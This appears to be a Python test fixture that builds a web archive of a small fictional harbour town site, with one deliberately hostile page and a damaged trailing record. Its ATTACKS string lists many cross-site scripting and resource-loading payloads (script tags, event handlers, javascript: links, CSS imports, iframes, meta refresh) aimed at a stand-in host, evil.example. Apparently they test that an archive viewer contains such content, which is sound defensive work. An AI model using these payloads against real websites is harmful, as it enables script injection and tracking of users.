"""An archive of a small site: articles twice in time, their style sheet and picture, and attacks."""

from pathlib import Path

from tests.archive.build import answer, members, record
from tests.site import png

SITE = "http://harbour.example"
YEARS = (2013, 2015)
TOPICS = ("ferry", "clocks", "benches", "maps", "lamps")
AD = "Fresh herring at Petersen, every morning from six"
MENU = ("Home and news of today", "Letters from our readers", "About the people behind this")
SHEETS = {
    2013: "h1 { color: rgb(1, 2, 3) } body { background: url(logo.png) }",
    2015: "@import 'more.css'; h1 { color: rgb(4, 5, 6) } i { background: url(http://evil.example/) }",
}
LOGO = png((255, 0, 0), 1, 1)
EVIL_TITLE = """<script>parent.hacked=1</script>"><img src=x onerror=parent.hacked=1>"""
EVIL_PATH = """/evil?"><script>hacked=1</script>x"""

ATTACKS = """
<script>parent.hacked = 1; fetch("http://evil.example/script")</script>
<script src="http://evil.example/x.js"></script>
<img src="http://evil.example/pixel" onerror="parent.hacked=1" onload="parent.hacked=1">
<img src="/start?from=picture" alt="">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/" target="_top">
<form id="f" action="http://evil.example/form" method="post"><button autofocus>Send</button></form>
<iframe src="http://evil.example/frame"></iframe>
<iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<svg onload="parent.hacked=1"><script>parent.hacked=1</script>
<image href="http://evil.example/svg"/><use href="http://evil.example/use#a"/>
<a xlink:href="javascript:parent.hacked=1"><text>drawn</text></a></svg>
<style>@import "http://evil.example/import.css"; @import url(http://evil.example/import2.css);
p { background: url(http://evil.example/css) } @font-face { font-family: x; src: url(//evil.example/font) }
b { font-family: x; background-image: image-set("http://evil.example/set" 1x) }</style>
<p style="background: url('http://evil.example/inline'); list-style: u\\72l(http://evil.example/escaped)">styled</p>
<a id="a1" href="javascript:parent.hacked=1">a link</a>
<a id="a2" href="data:text/html,<script>top.hacked=1</script>" target="_top">data</a>
<a id="a3" href="http://evil.example/link" ping="http://evil.example/ping" target="_top">elsewhere</a>
<video src="http://evil.example/video" poster="http://evil.example/poster" autoplay></video>
<link rel="stylesheet" href="http://evil.example/sheet.css">
<link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="image" href="http://evil.example/p">
<input type="image" src="http://evil.example/input"><body background="http://evil.example/body">
<table background="http://evil.example/table"><tr><td onclick="parent.hacked=1">cell</td></tr></table>
<math><maction actiontype="statusline" xlink:href="javascript:parent.hacked=1">m</maction></math>
<noscript><img src="http://evil.example/noscript"></noscript>
<template><img src="http://evil.example/template"></template>
"""


def article(topic: str, year: int, extra: str = "", title: str = "") -> str:
    """A page of the site: a menu, an article of its own, an advertisement, a footer."""
    items = "".join(f"<li><a href='/{n}'>{text}</a></li>" for n, text in enumerate(MENU))
    told = " ".join(f"{topic}{n} is told of here, once and at some length." for n in range(8))
    new = f" In {year} the {topic} were counted again." if year > YEARS[0] else ""
    heading = title.replace("<", "&lt;") or f"{topic.title()} in the old town"
    return (
        f"<!doctype html><html><head><title>{heading}</title>"
        "<link rel='stylesheet' href='/style.css'></head><body>"
        f"<ul class='nav'>{items}</ul><img src='logo.png' alt='logo'>"
        f"<div class='main'><h1>{topic.title()} in the old town</h1><p>{told}{new}</p>{extra}</div>"
        f"<p class='ad'>{AD}</p><p class='foot'>Printed with care, all rights reserved</p></body></html>"
    )


def write(path: Path) -> Path:
    """The archive as a file; something damaged stands at its end."""
    records = []
    for year in YEARS:
        pages = {f"/{topic}": article(topic, year) for topic in TOPICS}
        pages[EVIL_PATH] = article("evil", year, ATTACKS, EVIL_TITLE)
        for number, (place, html) in enumerate(pages.items()):
            records.append(_record(year, number, place, html.encode(), "text/html; charset=utf-8"))
        sheet = SHEETS[year].encode()
        records.append(_record(year, 90, "/style.css", sheet, "text/css"))
        records.append(_record(year, 91, "/more.css", b"b { color: red }", "text/css"))
        records.append(_record(year, 92, "/logo.png", LOGO, "image/png"))
        records.append(_record(year, 93, "/code.js", b"parent.hacked=1", "text/javascript"))
    stored = members(records)
    path.write_bytes(b"".join(stored) + b"and then something that is no record")
    return path


def places(run: Path) -> dict[str, str]:
    """Where the archive of a run lies that was made beside it: as `--archive` names it."""
    return {"harbour.warc.gz": str(run.parent / "harbour.warc.gz")}


def record_id(year: int, topic: str) -> str:
    """The id of an article's record; "evil" is the hostile one."""
    return f"urn:test:{year}-{[*TOPICS, 'evil'].index(topic)}"


def _record(year: int, number: int, place: str, body: bytes, media: str) -> bytes:
    return record(
        block=answer(body, content_type=media),
        url=f"{SITE}{place}",
        date=f"{year}-06-0{1 + number % 9}T12:00:00Z",
        record_id=f"<urn:test:{year}-{number}>",
    )
